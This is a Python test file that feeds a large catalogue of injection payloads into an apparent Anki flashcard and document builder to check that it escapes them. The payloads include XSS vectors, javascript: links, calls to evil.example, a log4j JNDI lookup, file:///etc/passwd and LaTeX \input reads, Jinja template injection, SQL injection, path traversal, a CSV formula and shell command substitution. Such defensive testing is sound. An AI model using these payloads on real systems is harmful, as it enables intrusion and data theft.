"""Words that Anki, a browser, a template or a typesetter would obey, in every place that is shown.

Each payload holds ``inert.MARK`` where it would do something, so that a page which obeys shows it.
"""

import json
from collections.abc import Iterator

from tests.hostile.cases import (
    DOCUMENT,
    MODEL,
    PIXEL,
    SHOW,
    Case,
    Ground,
    Make,
    build,
    check,
    paper,
)


def cases() -> Iterator[Case]:
    """Every case of the family."""
    for name, payload in _PAYLOADS.items():
        runs = (build(0, 1), MODEL, SHOW)
        yield Case(f"magic/document-{name}", _in_a_document(payload), runs)
        yield Case(f"magic/settings-{name}", _in_the_settings(payload), (build(0, 1),))
    for name in _IN_PLANS:
        yield Case(f"magic/plan-{name}", _in_a_plan(_PAYLOADS[name]), (build(0, 1), MODEL))
        yield Case(f"magic/heading-{name}", _alone(_PAYLOADS[name]), (build(0, 1),))
        yield Case(
            f"magic/ledger-{name}", _in_the_ledger(_PAYLOADS[name]), (build(0, 1), check(0, 1))
        )
        yield Case(
            f"magic/verdict-{name}", _in_a_verdict(_PAYLOADS[name]), (build(0, 1), check(0, 1))
        )
        plan = _in_a_plan(_PAYLOADS[name])
        yield Case(f"magic/paper-{name}", plan, (paper(0, 1),), slow=True)
    for name in ("link-script", "link-file", "autolink-script", "picture-file", "wiki-picture"):
        case = _in_a_document(_PAYLOADS[name])
        yield Case(f"magic/paper-document-{name}", case, (paper(0, 1),), slow=True)
    for name, formula in _FORMULAS.items():
        yield Case(f"magic/math-{name}", _in_a_document(formula), (build(0, 1),))


_SCRIPT = "<script>alert(31337)</script>"
_PAYLOADS = {
    "script": _SCRIPT,
    "script-upper": "<SCRIPT SRC=//evil.example/31337.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(31337)</scr</script>ipt>",
    "script-null": "<script\x0b>alert(31337)</script\x0b>",
    "script-end": "</script><script>alert(31337)</script>",
    "style-end": "</style><script>alert(31337)</script>",
    "title-end": "</title><script>alert(31337)</script>",
    "textarea-end": "</textarea></template></noscript><img src=x onerror=alert(31337)>",
    "comment-end": "--><script>alert(31337)</script><!--",
    "comment-odd-end": "--!><img src=x onerror=alert(31337)>",
    "cdata-end": "]]><script>alert(31337)</script>",
    "image-error": "<img src=x onerror=alert(31337)>",
    "image-quotes": '"><img src=x onerror="alert(31337)">',
    "image-apostrophes": "'><img src=x onerror='alert(31337)'>",
    "image-back-ticks": "`<img src=x onerror=alert(31337)>`<img src=x onerror=alert(31337)>",
    "image-slash": "<img/src=x/onerror=alert(31337)>",
    "image-newline": "<img\nsrc=x\nonerror=alert(31337)\n>",
    "image-unclosed": "<img src=x onerror=alert(31337) ",
    "svg-load": "<svg onload=alert(31337)>",
    "svg-animate": "<svg><animate onbegin=alert(31337) attributeName=x dur=1s></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,31337#x'/></svg>",
    "mathml": "<math><maction xlink:href=javascript:alert(31337)>x</maction></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(31337)&gt;'>",
    "iframe": "<iframe src=https://evil.example/31337></iframe>",
    "iframe-inside": "<iframe srcdoc='<script>alert(31337)</script>'></iframe>",
    "object": "<object data=https://evil.example/31337.swf></object>",
    "embed": "<embed src=https://evil.example/31337.swf>",
    "style": "<style>*{background:url(https://evil.example/31337)}</style>",
    "style-attribute": "<p style='background:url(https://evil.example/31337)'>x</p>",
    "style-import": "<style>@import '//evil.example/31337.css';</style>",
    "link-sheet": "<link rel=stylesheet href=//evil.example/31337.css>",
    "link-prefetch": "<link rel=prefetch href=//evil.example/31337>",
    "base": "<base href=//evil.example/31337/>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=//evil.example/31337'>",
    "form": "<form action=//evil.example/31337><input name=a><button>go</button></form>",
    "button-action": "<button formaction=javascript:alert(31337)>x</button>",
    "input-focus": "<input autofocus onfocus=alert(31337)>",
    "details-toggle": "<details open ontoggle=alert(31337)><summary>x</summary></details>",
    "body-load": "<body onload=alert(31337)>",
    "marquee": "<marquee onstart=alert(31337)>x</marquee>",
    "video": "<video src=x onerror=alert(31337)></video>",
    "audio": "<audio src=//evil.example/31337.mp3 autoplay></audio>",
    "picture": "<picture><source srcset=//evil.example/31337.png><img src=x></picture>",
    "image-set": "<img srcset='//evil.example/31337.png 2x' src=x>",
    "template": "<template><script>alert(31337)</script></template>",
    "portal": "<portal src=//evil.example/31337></portal><dialog open onclose=alert(31337)>",
    "id-clobber": "<a id=pycmd name=body></a><img name=getElementById>",
    "ankidroid-bridge": "<a href='signal:answer_ease1_31337'>x</a>",
    "link-script": "[x](javascript:alert(31337))",
    "link-script-case": "[x](JaVaScRiPt:alert(31337))",
    "link-script-entity": "[x](java&#115;cript:alert(31337))",
    "link-script-tab": "[x](<java\tscript:alert(31337)>)",
    "link-script-percent": "[x](javascript%3Aalert(31337))",
    "link-script-control": "[x](<\x01javascript:alert(31337)>)",
    "link-vbscript": "[x](vbscript:msgbox(31337))",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMTMzNyk8L3NjcmlwdD4=)",
    "link-file": "[x](file:///etc/passwd)",
    "link-protocol-relative": "[x](//evil.example/31337)",
    "link-reference": "[x][y]\n\n[y]: javascript:alert(31337)",
    "link-title": '[x](https://example.org "\\" onmouseover=alert(31337) x=\\"")',
    "link-quote": '[x](https://example.org/"onmouseover="alert(31337))',
    "link-html": "<a href='javascript:alert(31337)'>x</a>",
    "link-html-entity": "<a href='&#x6A;avascript:alert(31337)'>x</a>",
    "autolink-script": "<javascript:alert(31337)>",
    "autolink-data": "<data:text/html,31337>",
    "picture-web": "![x](https://evil.example/31337.png)",
    "picture-script": "![x](javascript:alert(31337))",
    "picture-data": "![x](data:image/svg+xml,%3Csvg%20onload=alert(31337)%3E)",
    "picture-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "picture-file": "![x](file:///etc/passwd)",
    "picture-alt": '![" onerror=alert(31337) x="](a.png)',
    "picture-title": '![x](a.png "\\" onerror=alert(31337) x=\\"")',
    "picture-in-link": "[![x](a.png)](javascript:alert(31337))",
    "picture-html": "<img src='https://evil.example/31337.gif' width=1 height=1>",
    "wiki-picture": '![[a.png|" onerror=alert(31337)]]',
    "wiki-link": "[[javascript:alert(31337)|x]]",
    "anki-field": "{{Front}} {{Answer}} {{FrontSide}}",
    "anki-field-filter": "{{text:Front}} {{hint:Answer}} {{furigana:Front}}",
    "anki-section": "{{#Answer}}x{{/Answer}} {{^Answer}}y{{/Answer}}",
    "anki-section-open": "{{#Answer}} {{/Front}} {{",
    "anki-delimiters": "{{=<% %>=}} <%Front%>",
    "anki-cloze": "{{c1::31337::hint}}",
    "anki-cloze-open": "{{c1::31337",
    "anki-cloze-huge": "{{c99999999999::31337}}",
    "anki-type": "[[type:Answer]] [type:Answer] {{type:Answer}}",
    "anki-sound": "[sound:31337.mp3]",
    "anki-sound-case": "[SoUnD:31337.mp3]",
    "anki-sound-url": "[sound:https://evil.example/31337.mp3]",
    "anki-sound-entity": "[sound&#58;31337.mp3] &#91;sound:31337.mp3&#93;",
    "anki-sound-split": "[sou**n**d:31337.mp3] [<b>sound:31337.mp3]",
    "anki-tts": "[anki:tts lang=en_US]31337[/anki:tts]",
    "anki-play": "[anki:play:q:0]",
    "anki-latex": "[latex]\\input{/etc/passwd}31337[/latex]",
    "anki-latex-dollar": "[$]\\input{/etc/passwd}[/$] [$$]31337[/$$]",
    "anki-latex-case": "[LaTeX]\\write18{31337}[/LaTeX]",
    "anki-mathjax": "<anki-mathjax>31337</anki-mathjax>",
    "mathjax": "\\(31337\\) \\[31337\\]",
    "mathjax-split": "\\<b></b>(31337\\) \\\\(31337\\\\)",
    "mathjax-dollars": "$31337$ $$31337$$",
    "furigana": " 漢字[sound:31337.mp3]",
    "jinja": "{{ 7*31337 }} {% include '/etc/passwd' %} {# x #}",
    "jinja-object": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template-string": "$style ${script} $$ $content ${digest}",
    "format": "{0} {config.__class__} %s %(a)s %n",
    "erb": "<%= 7*31337 %> <? echo 31337 ?> #{31337}",
    "css": "}</style> body{display:none} @import url(//evil.example/31337)",
    "line-separators": "\u2028alert(31337)\u2029",
    "entities": "&lt;script&gt;alert(31337)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "entities-numbers": "&#60;script&#62;alert(31337)&#60;/script&#62;",
    "entities-open": "&#60script&#62alert(31337)&#60/script&#62",
    "full-width": "＜script＞alert(31337)＜/script＞",
    "half-tag": "<",
    "odd-tags": "< script>alert(31337)< /script> <\u200bscript>31337</script>",
    "nbsp-attribute": "<img src=x\u00a0onerror=alert(31337)>",
    "separator": "a\x1fb",
    "quotes": "\"'`\\\"\\'",
    "backslashes": "\\\\\\n\\u003cscript\\u003e31337",
    "sql": "'); DROP TABLE notes; -- 31337",
    "path": "../../../../etc/passwd",
    "csv": "=cmd|'/c calc'!A1",
    "shell": "$(touch 31337) `touch 31337`; touch 31337",
    "log4j": "${jndi:ldap://evil.example/31337}",
    "tag-words": "tag::a b c",
    "deck-levels": "a::b::::c::",
}

_IN_PLANS = """script script-end image-quotes image-error link-script anki-field anki-sound
anki-latex mathjax-split jinja template-string entities separator anki-cloze
deck-levels quotes css""".split()

_FORMULAS = {
    "link": r"\(\href{javascript:alert(31337)}{x^2}\)",
    "link-display": r"\[\href{javascript:alert(31337)}{x^2}\]",
    "require": r"\(\require{html} x^2\)",
    "class": r"\(\class{31337}{x^2} + \cssId{a}{y} + \style{color:red}{z}\)",
    "input": r"\(\input{/etc/passwd} x^2\)",
    "html": r"\(x^2 <script>alert(31337)</script>\)",
    "html-image": r"\(x^2 <img src=x onerror=alert(31337)>\)",
    "closes-early": r"\(x^2</span><script>alert(31337)</script>\)",
    "sound": r"\(x^2 [sound:31337.mp3]\)",
    "latex": r"\(x^2 [latex]31337[/latex]\)",
    "braces": r"\(\frac{{a}}{{b}} + {{Front}}\)",
    "unclosed": r"\(x^2 + 31337",
    "nested": r"\(x^2 \(y^2\) \[z^2\]\)",
    "macro-loop": r"\(\def\a{\a\a}\a x^2\)",
    "macro-new": r"\(\newcommand{\x}{31337}\x^2\)",
    "unicode": r"\(\unicode[31337]{x41} + x^2\)",
    "image": r"\(\includegraphics{/etc/passwd} x^2\)",
    "url": r"\(\url{javascript:alert(31337)} x^2\)",
    "dollars": r"$\href{javascript:alert(31337)}{x^2}$ $$\href{javascript:alert(31337)}{y}$$",
    "mml": r"\(\mmlToken{mi}[href='javascript:alert(31337)']{x} + x^2\)",
    "data": r"\(\data{31337}{x} + \tooltip{31337}{x^2} + \toggle{x}{y}\endtoggle\)",
    "enclose": r"\(\enclose{circle}[onclick='alert(31337)']{x^2}\)",
}


def _in_a_document(payload: str) -> Make:
    """The payload in every place of a document whose words reach a card, a page or a terminal."""
    line = payload.replace("\n", " ")
    text = (
        f"# Lamps {line}\n\n{payload}\n\n## Part 1: {line}\n\n### Q1: What is a lamp {line}?\n\n"
        f"#### SHORT\n\nA thing {payload}\n\n#### MEDIUM\n\n- light {line}\n- `light {line}`\n\n"
        f"| a | {line} |\n|---|---|\n| {line} | b |\n\n> {line}\n\n1. {line}\n\n"
        f"#### SENIOR\n\n**{line}** _{line}_ ~~{line}~~\n\n```js\nlet a; // {payload}\n```\n\n"
        f"```{line}\nlet b;\n```\n\n    {line}\n\n### Q2: {line}\n\n#### SHORT\n\n{payload}\n\n"
        f"### Q3: What does this print?\n\n```js\nconsole.log('{line}')\n```\n\n"
        f"#### Output\n\n```\n{line}\n```\n\n{payload}\n\n"
        f"## Task: Build {line}\n\n**Goal**: {line}\n\n**Acceptance**\n\n- {line}\n\n"
        f"## {line}\n\n{payload}\n"
    )
    rows = f'question,answer\nWhat is a lamp of glass?,"{line.replace(chr(34), chr(34) * 2)}"\n'

    def make(ground: Ground) -> None:
        ground.write("n.md", text)
        ground.write("t.csv", rows)
        ground.write("a.png", PIXEL)

    return make


def _alone(payload: str) -> Make:
    """The payload as the only words of a question, and as its only answer."""
    line = payload.replace("\n", " ")

    def make(ground: Ground) -> None:
        ground.write(
            "n.md", f"## {line}\n\n### {line}\n\n{payload}\n\n**Q:** {line}\n\n**A:** {line}\n"
        )

    return make


def _in_the_settings(payload: str) -> Make:
    """The payload in every text that pack.toml may hold; control characters are refused there."""
    text = json.dumps(payload.replace("\n", " "), ensure_ascii=False)
    toml = (
        f"title = {text}\nauthor = {text}\ndeck = {text}\nurl = {text}\n\n"
        f'[[documents]]\npath = "n.md"\ntitle = {text}\norigin = {text}\n\n'
        f'[[documents]]\npath = "p.txt"\n\n'
        f"[[subjects]]\nname = {text}\nterms = [{text}]\ndays = [1]\n"
    )

    def make(ground: Ground) -> None:
        ground.write("pack.toml", toml.encode("utf-8", "replace"))
        ground.write("p.txt", "Week 1: Light\n\nDay 1: Lamps\n\n- lamps\n")

    return make


def _in_a_plan(payload: str) -> Make:
    line = payload.replace("\n", " ")
    plan = (
        f"# Plan {line}\n\n## Week 1: {line}\n\nGoal: {line}\n\n"
        f"### Day 1: {line}\n\n- lamps {line}\n\n"
        f"**Questions**\n\n- What is a lamp {line}?\n\n**Practice**\n\n- {line}\n\n"
        f"### Day 2: Mock interview + recap {line}\n\n- {line}\n"
    )

    def make(ground: Ground) -> None:
        ground.write("n.md", DOCUMENT)
        ground.write("plan.md", plan)
        ground.write(
            "list.md", f"# Checklist {line}\n\n## A. {line}\n\n1. lamps {line}\n2. light\n"
        )

    return make


def _in_the_ledger(payload: str) -> Make:
    """The payload in the texts of a retired question, which cards say farewell with."""

    def make(ground: Ground) -> None:
        from tests.hostile.memories import ENTRY, NOTE, ledger

        farewell = {"edition": 1, "prompt": payload, "code": payload, "answer": payload}
        note = NOTE | {"guid": "g2", "retired": farewell}
        old = ENTRY | {
            "key": "AB22",
            "id": "i2",
            "prompt": payload,
            "state": "retired",
            "notes": [note],
        }
        live = ENTRY | {"related": [_related(payload)], "tags": ["a"], "why": payload}
        ground.write("ledger.jsonl", ledger(old, live))

    return make


def _related(payload: str) -> dict[str, object]:
    return {"id": "i2", "key": "AB22", "relation": "same", "leads": False, "title": payload}


def _in_a_verdict(payload: str) -> Make:
    def make(ground: Ground) -> None:
        from tests.hostile.memories import verdicts

        row = {"key": "KXM7", "digest": "0" * 32, "status": "differs", "runtime": payload}
        ground.write("verdicts.jsonl", verdicts(row | {"printed": [payload]}))

    return make
